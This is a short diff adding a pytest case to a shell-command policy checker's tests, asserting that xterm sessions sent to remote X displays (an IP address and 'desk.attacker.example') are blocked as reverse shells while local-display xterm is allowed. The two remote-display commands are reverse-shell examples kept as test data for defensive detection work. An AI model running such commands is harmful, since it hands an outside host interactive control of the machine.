@@ -311,3 +311,13 @@ def test_public_cloud_data_and_login_hooks_ask(command: str, rule: str) -> None:
 def test_listing_cloud_data_and_ordinary_defaults_are_allowed() -> None:
     assert shell("gsutil ls -l gs://team-exports").decision.value == "allow"
     assert shell("defaults write com.apple.finder AppleShowAllFiles -bool true").decision.value == "allow"
+
+
+@pytest.mark.parametrize(("command", "decision"), [
+    ("xterm -display 198.51.100.3:1", "block"),
+    ("DISPLAY=desk.attacker.example:0 xterm", "block"),
+    ("xterm -display :0 -e htop", "allow"),
+    ("DISPLAY=:1 xterm", "allow"),
+])
+def test_a_terminal_on_a_remote_display_is_a_reverse_shell(command: str, decision: str) -> None:
+    assert shell(command).decision.value == decision, command
